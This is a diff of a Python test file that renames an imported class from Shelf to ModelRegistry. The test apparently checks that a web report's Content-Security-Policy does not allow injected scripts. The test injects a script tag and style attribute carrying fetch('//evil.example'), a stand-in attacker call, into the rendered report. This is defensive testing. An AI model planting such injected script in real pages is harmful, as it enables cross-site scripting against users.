@@ -112,7 +112,7 @@ def test_10_the_policy_names_no_injected_script(tmp_path: Path, monkeypatch: pyt
     import toposcope.report
     from toposcope.web.app import Served, application
     from toposcope.web.library import Library
-    from toposcope.web.models import Shelf
+    from toposcope.web.models import ModelRegistry
 
     true, evil = toposcope.report.render, "fetch('//evil.example')"
     monkeypatch.setattr(
@@ -121,7 +121,9 @@ def test_10_the_policy_names_no_injected_script(tmp_path: Path, monkeypatch: pyt
         lambda results: true(results).replace("</h1>", f"<script>{evil}</script><b style='{evil}'></b></h1>"),
     )
     library = Library(None, [write_spectrum(tmp_path / "spectrum.json")])
-    answer = TestClient(application(Served(library, Shelf([], with_installed=False)))).get("/results/r0/report")
+    answer = TestClient(application(Served(library, ModelRegistry([], with_installed=False)))).get(
+        "/results/r0/report"
+    )
     assert answer.status_code == 200
     assert evil in answer.text
     policy = answer.headers["content-security-policy"]
